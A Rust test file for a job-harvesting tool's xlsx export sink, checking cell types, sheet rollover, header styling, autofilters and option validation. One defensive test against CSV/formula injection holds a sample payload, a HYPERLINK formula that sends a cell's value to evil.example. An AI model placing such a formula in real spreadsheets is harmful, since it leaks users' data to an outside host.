//! Writes generated records through the `xlsx` sink and reads them back
//! with calamine (values and types) and as zip + XML (frozen header,
//! autofilter, bold header), cell by cell.

use std::io::Read;
use std::path::Path;

use calamine::{Data, Reader, Xlsx, open_workbook};
use jobharvest_core::testkit::{self, Expected, Generator, expected_row, sink_config};
use jobharvest_core::{COLUMNS, JobRecord, Registry, select_columns};
use serde_json::{Value, json};

fn registry() -> Registry {
    let mut r = Registry::new();
    jobharvest_sink_xlsx::register(&mut r);
    r
}

/// Every sheet: its name and its cells.
fn read_sheets(path: &Path) -> Vec<(String, Vec<Vec<Data>>)> {
    let mut book: Xlsx<_> = open_workbook(path).unwrap();
    book.sheet_names()
        .into_iter()
        .map(|name| {
            let range = book.worksheet_range(&name).unwrap();
            assert_eq!(range.start(), Some((0, 0)), "{name} starts at A1");
            let rows = range.rows().map(<[Data]>::to_vec).collect();
            (name, rows)
        })
        .collect()
}

/// A file of the xlsx zip, as text.
fn part(path: &Path, name: &str) -> String {
    let mut zip = zip::ZipArchive::new(std::fs::File::open(path).unwrap()).unwrap();
    let mut text = String::new();
    zip.by_name(name)
        .unwrap_or_else(|e| panic!("{name}: {e}"))
        .read_to_string(&mut text)
        .unwrap();
    text
}

/// The Excel serial number of a UTC instant (days since 1899-12-30).
fn excel_serial(t: &chrono::DateTime<chrono::Utc>) -> f64 {
    t.timestamp_millis() as f64 / 86_400_000.0 + 25_569.0
}

/// Excel's column letters for a 0-based column.
fn col_letters(mut col: usize) -> String {
    let mut s = Vec::new();
    loop {
        s.push(b'A' + (col % 26) as u8);
        if col < 26 {
            break;
        }
        col = col / 26 - 1;
    }
    s.reverse();
    String::from_utf8(s).unwrap()
}

/// What a cell of `want` must read back as; `list_separator` joins lists.
fn assert_cell(got: &Data, want: &Expected, list_separator: &str, at: &str) {
    match (want, got) {
        (Expected::Null, Data::Empty) => {}
        (Expected::List(l), Data::Empty) if l.is_empty() => {}
        (Expected::List(l), Data::String(s)) => assert_eq!(s, &l.join(list_separator), "{at}"),
        (Expected::Text(t), Data::String(s)) => {
            let units = t.encode_utf16().count();
            if units <= 32_767 {
                assert_eq!(s, t, "{at}");
            } else {
                assert!(t.starts_with(s.as_str()), "{at}: not a prefix");
                assert!(s.encode_utf16().count() >= 32_766, "{at}: cut too short");
                assert!(s.encode_utf16().count() <= 32_767, "{at}: too long");
            }
        }
        (Expected::Float(f), Data::Float(g)) => assert_eq!(g, f, "{at}"),
        (Expected::Int(i), Data::Float(g)) => assert_eq!(*g, *i as f64, "{at}"),
        (Expected::Int(i), Data::Int(g)) => assert_eq!(g, i, "{at}"),
        (Expected::Bool(b), Data::Bool(g)) => assert_eq!(g, b, "{at}"),
        (Expected::Timestamp(t), Data::DateTime(d)) => {
            assert!(d.is_datetime(), "{at}: not a date-time: {d:?}");
            let diff = (d.as_f64() - excel_serial(t)).abs();
            assert!(diff < 0.5 / 86_400_000.0, "{at}: {d:?} vs {t} ({diff})");
        }
        _ => panic!("{at}: wrote {want:?}, read {got:?}"),
    }
}

/// Checks that `sheets` hold `records` (split across sheets) under a
/// header, cell by cell.
fn assert_sheets(
    sheets: &[(String, Vec<Vec<Data>>)],
    records: &[JobRecord],
    columns: &[usize],
    list_separator: &str,
) {
    let names: Vec<Data> = columns
        .iter()
        .map(|&c| Data::String(COLUMNS[c].name.into()))
        .collect();
    let mut records = records.iter();
    let mut n = 0;
    for (sheet, rows) in sheets {
        assert_eq!(rows[0], names, "{sheet}: header");
        for (r, row) in rows[1..].iter().enumerate() {
            let record = records.next().expect("more rows than records");
            let expected = expected_row(record, columns);
            assert_eq!(row.len(), columns.len(), "{sheet} row {r}");
            for ((got, want), &c) in row.iter().zip(&expected).zip(columns) {
                let at = format!("{sheet}!{}{} ({})", col_letters(c), r + 2, COLUMNS[c].name);
                assert_cell(got, want, list_separator, &at);
            }
            n += 1;
        }
    }
    assert!(
        records.next().is_none(),
        "{n} rows read, more records written"
    );
}

fn write(path: &Path, extra: Value, records: &[JobRecord]) -> jobharvest_core::SinkReport {
    testkit::write_all(&registry(), sink_config("xlsx", path, extra), records, 4)
}

#[test]
fn every_cell_reads_back_with_its_type() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("deep/er/out.xlsx");
    let records = Generator::new().long_description(40_000).records(0, 57);
    testkit::assert_varied(&records);
    let report = write(&path, json!({}), &records);

    assert_eq!(report.rows, 57);
    assert_eq!(report.bytes, Some(std::fs::metadata(&path).unwrap().len()));
    let long = records
        .iter()
        .filter(|r| {
            r.description
                .as_ref()
                .is_some_and(|d| d.encode_utf16().count() > 32_767)
        })
        .count();
    assert!(long >= 5, "the generator should make long descriptions");
    assert_eq!(report.warnings.len(), 1, "{:?}", report.warnings);
    let warning = &report.warnings[0];
    assert!(
        warning.contains(&format!(" {long} cell(s) longer")),
        "{warning}"
    );
    assert!(warning.contains("column `description`"), "{warning}");
    assert!(warning.contains("out.xlsx"), "{warning}");

    let columns = select_columns(None, false).unwrap();
    let sheets = read_sheets(&path);
    assert_eq!(sheets.len(), 1);
    assert_eq!(sheets[0].0, "offers");
    assert_sheets(&sheets, &records, &columns, " | ");
    assert!(
        !sheets[0].1[0].contains(&Data::String("raw".into())),
        "raw is left out by default"
    );

    let sheet = part(&path, "xl/worksheets/sheet1.xml");
    let last = col_letters(columns.len() - 1);
    assert!(
        sheet.contains(
            r#"<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"/>"#
        ),
        "header not frozen"
    );
    assert!(
        sheet.contains(&format!(r#"<autoFilter ref="A1:{last}58"/>"#)),
        "no autofilter over the data"
    );
    assert!(sheet.contains("<cols>"), "column widths");
    assert!(
        !sheet.contains("<f>"),
        "text such as =1+1 must not become a formula"
    );
    let book = part(&path, "xl/workbook.xml");
    assert!(
        book.contains(&format!("offers!$A$1:${last}$58")),
        "filter range in {book}"
    );
    let styles = part(&path, "xl/styles.xml");
    assert!(styles.contains("<b/>"), "bold header font");
    assert!(
        styles.contains(r#"formatCode="yyyy\-mm\-dd\ hh:mm:ss""#)
            || styles.contains(r#"formatCode="yyyy-mm-dd hh:mm:ss""#),
        "date format in {styles}"
    );
}

#[test]
fn rows_continue_on_new_sheets_with_the_header_repeated() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("rollover.xlsx");
    let records = Generator::new().records(0, 10);
    let columns = ["source_id", "title", "created_at", "skills", "latitude"];
    let extra = json!({"max_rows_per_sheet": 3, "columns": columns, "sheet_name": "jobs"});
    let report = write(&path, extra, &records);
    assert_eq!(report.rows, 10);

    let sheets = read_sheets(&path);
    let names: Vec<&str> = sheets.iter().map(|(n, _)| n.as_str()).collect();
    assert_eq!(names, ["jobs", "jobs_2", "jobs_3", "jobs_4"]);
    let lens: Vec<usize> = sheets.iter().map(|(_, rows)| rows.len()).collect();
    assert_eq!(lens, [4, 4, 4, 2], "header + 3, 3, 3, 1 rows");
    assert_sheets(&sheets, &records, &testkit::column_indices(&columns), " | ");

    for (i, data_rows) in [3, 3, 3, 1].into_iter().enumerate() {
        let sheet = part(&path, &format!("xl/worksheets/sheet{}.xml", i + 1));
        assert!(sheet.contains(r#"state="frozen""#), "sheet {i} not frozen");
        let range = format!(r#"<autoFilter ref="A1:E{}"/>"#, data_rows + 1);
        assert!(sheet.contains(&range), "sheet {i}: no {range}");
    }
}

#[test]
fn exactly_full_sheets_add_no_empty_sheet() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("full.xlsx");
    let records = Generator::new().records(0, 6);
    write(&path, json!({"max_rows_per_sheet": 3}), &records);
    assert_eq!(read_sheets(&path).len(), 2);
}

#[test]
fn raw_and_column_order_on_request() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("raw.xlsx");
    let records = Generator::new().records(5, 30);
    write(&path, json!({"include_raw": true}), &records);
    let sheets = read_sheets(&path);
    assert_sheets(
        &sheets,
        &records,
        &select_columns(None, true).unwrap(),
        " | ",
    );

    let columns = ["raw", "positions", "alternance", "updated_at", "source"];
    write(&path, json!({"columns": columns}), &records);
    let sheets = read_sheets(&path);
    assert_sheets(&sheets, &records, &testkit::column_indices(&columns), " | ");
}

#[test]
fn lists_joined_with_line_breaks_wrap() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("wrap.xlsx");
    let records = Generator::new().records(0, 20);
    let columns = ["source_id", "skills", "languages"];
    write(
        &path,
        json!({"columns": columns, "list_separator": "\n"}),
        &records,
    );
    assert_sheets(
        &read_sheets(&path),
        &records,
        &testkit::column_indices(&columns),
        "\n",
    );
    let styles = part(&path, "xl/styles.xml");
    assert!(styles.contains(r#"wrapText="1""#), "list cells wrap");
}

#[test]
fn dates_excel_cannot_show_are_written_as_text() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("dates.xlsx");
    let mut old = JobRecord::new("a", "1");
    old.created_at = chrono::DateTime::from_timestamp_millis(-3_786_825_600_000); // 1850-01-01
    let mut fine = JobRecord::new("a", "2");
    fine.created_at = chrono::DateTime::from_timestamp_millis(1_720_434_959_445);
    let report = write(
        &path,
        json!({"columns": ["source_id", "created_at"]}),
        &[old, fine],
    );
    assert_eq!(report.warnings.len(), 1, "{:?}", report.warnings);
    assert!(
        report.warnings[0].contains("1 date(s)"),
        "{:?}",
        report.warnings
    );
    let rows = &read_sheets(&path)[0].1;
    assert_eq!(rows[1][1], Data::String("1850-01-01T00:00:00Z".into()));
    assert!(matches!(rows[2][1], Data::DateTime(_)), "{:?}", rows[2][1]);
}

#[test]
fn compression_level_changes_the_file() {
    let dir = tempfile::tempdir().unwrap();
    let records = Generator::new().records(0, 300);
    let size = |level: u8| {
        let path = dir.path().join(format!("level{level}.xlsx"));
        write(&path, json!({"compression_level": level}), &records)
            .bytes
            .unwrap()
    };
    let (fast, small) = (size(1), size(9));
    assert!(
        small < fast,
        "level 9 ({small} B) should beat level 1 ({fast} B)"
    );
}

#[test]
fn an_empty_harvest_has_a_filtered_header() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("empty.xlsx");
    let report = write(&path, json!({"columns": ["source", "title"]}), &[]);
    assert_eq!(report.rows, 0);
    let sheets = read_sheets(&path);
    assert_eq!(
        sheets[0].1,
        [vec![
            Data::String("source".into()),
            Data::String("title".into())
        ]]
    );
    assert!(part(&path, "xl/worksheets/sheet1.xml").contains(r#"<autoFilter ref="A1:B1"/>"#));
}

#[test]
fn bad_options_are_refused_with_the_fix() {
    let cases = [
        (json!({"max_rows_per_sheet": 0}), "max_rows_per_sheet"),
        (json!({"max_rows_per_sheet": 1_048_576}), "1048575"),
        (json!({"compression_level": 0}), "compression_level"),
        (json!({"compression_level": 10}), "compression_level"),
        (json!({"sheet_name": "a/b"}), "sheet_name"),
        (json!({"sheet_name": "x".repeat(25)}), "sheet_name"),
        (json!({"sheet_name": ""}), "sheet_name"),
        (json!({"list_separator": ""}), "list_separator"),
    ];
    for (extra, key) in cases {
        let config = sink_config("xlsx", Path::new("x.xlsx"), extra.clone());
        let err = registry().prepare_sink(config, "sinks[0]").unwrap_err();
        assert!(err.to_string().contains(key), "{extra}: {err}");
    }
}

#[test]
fn dropping_without_finish_leaves_nothing() {
    testkit::check_drop_leaves_nothing(&registry(), "xlsx", json!({"max_rows_per_sheet": 7}));
}

#[test]
fn unknown_keys_are_named() {
    testkit::check_unknown_key_named(&registry(), "xlsx");
}

#[test]
fn bad_columns_are_named() {
    testkit::check_columns_validated(&registry(), "xlsx");
}

#[test]
fn the_extension_selects_the_sink() {
    assert_eq!(
        registry().sink_type_for_path(Path::new("o.XLSX")).unwrap(),
        "xlsx"
    );
}

#[test]
fn append_is_refused_pointing_to_the_sinks_that_accumulate() {
    let err = registry()
        .prepare_sink(
            sink_config("xlsx", Path::new("o.xlsx"), json!({"write": "append"})),
            "sinks[2]",
        )
        .unwrap_err();
    let msg = err.to_string();
    assert_eq!(err.kind(), jobharvest_core::ErrorKind::Config, "{msg}");
    assert!(
        msg.starts_with("sinks[2]: write: `append` is not possible"),
        "{msg}"
    );
    for hint in ["`write: append`", "`dataset: true`", "`type: sqlite`"] {
        assert!(msg.contains(hint), "{hint} missing: {msg}");
    }
    registry()
        .prepare_sink(
            sink_config("xlsx", Path::new("o.xlsx"), json!({"write": "overwrite"})),
            "sinks[2]",
        )
        .expect("overwrite is the default and accepted");
}

/// CSV injection does not reach a workbook: text that looks like a formula
/// is written as a text cell, exactly, and the sheet holds no formula.
#[test]
fn formula_looking_text_stays_text() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("f.xlsx");
    let hostile = [
        "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Voir\")",
        "@SUM(A1:A9)",
        "+33 1 23 45 67 89",
        "-2+3",
    ];
    let mut records = Generator::new().records(0, hostile.len());
    for (r, text) in records.iter_mut().zip(hostile) {
        r.title = Some(text.to_string());
    }
    write(&path, json!({"columns": ["title"]}), &records);
    let sheets = read_sheets(&path);
    let rows = &sheets[0].1;
    for (row, text) in rows[1..].iter().zip(hostile) {
        assert_eq!(
            row[0],
            Data::String(text.to_string()),
            "a text cell, as it was"
        );
    }
    let sheet = part(&path, "xl/worksheets/sheet1.xml");
    assert!(
        !sheet.contains("<f>") && !sheet.contains("<f "),
        "no formula in the sheet"
    );
}
